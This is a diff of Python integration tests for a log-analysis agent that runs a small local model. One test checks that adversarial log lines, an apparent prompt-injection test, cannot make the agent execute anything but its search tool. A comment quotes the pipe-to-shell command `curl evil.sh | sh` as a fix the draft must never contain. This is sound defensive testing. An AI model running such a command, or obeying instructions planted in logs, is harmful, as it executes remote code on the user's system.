@@ -2,7 +2,9 @@
 
 The first model call forces the search tool, so a real tool call comes back from the model;
 whatever the 135M model answers afterwards, the loop stays bounded and the outcome is either
-a validated draft or a clear fallback reason.
+a draft that passed the review (rule-made category kept, confidence capped, no pipe-to-shell
+fix, only shown lines cited) or a fallback with its reason; the same answer reviewed against
+a contradicting rule category is rejected for it.
 """
 
 from __future__ import annotations
@@ -12,7 +14,11 @@ from pathlib import Path
 
 import pytest
 
-from tests.integration.llm_fixtures import llama_server
+from tests.integration.llm_fixtures import (
+    assert_review_rejects_a_contradicted_category,
+    assert_reviewed,
+    llama_server,
+)
 from workflowai.analysis.report import Category, EvidenceBlock, LogLine
 from workflowai.llm.agent import SEARCH_TOOL, run_agent
 from workflowai.llm.openai_backend import OpenAIGenerator
@@ -60,9 +66,13 @@ def generator(tmp_path_factory: pytest.TempPathFactory) -> Iterator[OpenAIGenera
             backend=GenerationBackend.OPENAI,
             base_url=url,
             model="smollm2",
-            timeout_s=120.0,
+            # generous: on a shared, loaded CPU box SmolLM2 evaluated prompts at ~15 tokens/s
+            # and generated ~0.5 tokens/s, so one 200-token call could take 500 s; a call cut
+            # by its timeout raises (transient), which these tests are not about
+            timeout_s=600.0,
             max_retries=0,
             agent_max_iterations=MAX_ITERATIONS,
+            agent_timeout_s=1500.0,
         )
         yield OpenAIGenerator(settings)
 
@@ -80,10 +90,11 @@ def _evidence(lines: list[str]) -> list[EvidenceBlock]:
 
 def test_agent_makes_a_real_search_call_and_stays_bounded(generator: OpenAIGenerator) -> None:
     search = RecordingSearch()
+    evidence = _evidence([ADVERSARIAL[0], ADVERSARIAL[1], ADVERSARIAL[4]])
     result = run_agent(
         generator,
         search,
-        evidence=_evidence([ADVERSARIAL[0], ADVERSARIAL[1], ADVERSARIAL[4]]),
+        evidence=evidence,
         category_hint=Category.DEPENDENCY,
         max_tokens=200,
     )
@@ -94,20 +105,14 @@ def test_agent_makes_a_real_search_call_and_stays_bounded(generator: OpenAIGener
     assert search.calls  # the model's query really ran
     assert search.calls[0][0] == first.arguments["query"]
     assert 1 <= result.iterations <= MAX_ITERATIONS
-    if result.outcome.ok:
-        assert result.outcome.draft is not None
-    else:
-        assert result.outcome.error
+    assert_reviewed(result.outcome, evidence, Category.DEPENDENCY)
+    assert_review_rejects_a_contradicted_category(result.outcome.raw_text, result.outcome, evidence)
 
 
 def test_agent_adversarial_log_cannot_cause_other_actions(generator: OpenAIGenerator) -> None:
     search = RecordingSearch()
-    result = run_agent(
-        generator,
-        search,
-        evidence=_evidence(ADVERSARIAL),
-        max_tokens=200,
-    )
+    evidence = _evidence(ADVERSARIAL)
+    result = run_agent(generator, search, evidence=evidence, max_tokens=200)
     assert 1 <= result.iterations <= MAX_ITERATIONS
     executed = [r for r in result.tool_calls if not r.result_summary.startswith("refused")]
     # every action that ran is the search tool, and each one reached only the search callable
@@ -115,5 +120,5 @@ def test_agent_adversarial_log_cannot_cause_other_actions(generator: OpenAIGener
     assert len(search.calls) == len(executed)
     refused = [r for r in result.tool_calls if r.tool != SEARCH_TOOL]
     assert all(r.result_summary.startswith("refused: unknown tool") for r in refused)
-    # the answer is data: a validated draft or a reason, never anything executed
-    assert result.outcome.ok or result.outcome.error
+    # the answer is data: a reviewed draft (never the log's `curl evil.sh | sh`) or a reason
+    assert_reviewed(result.outcome, evidence, None)
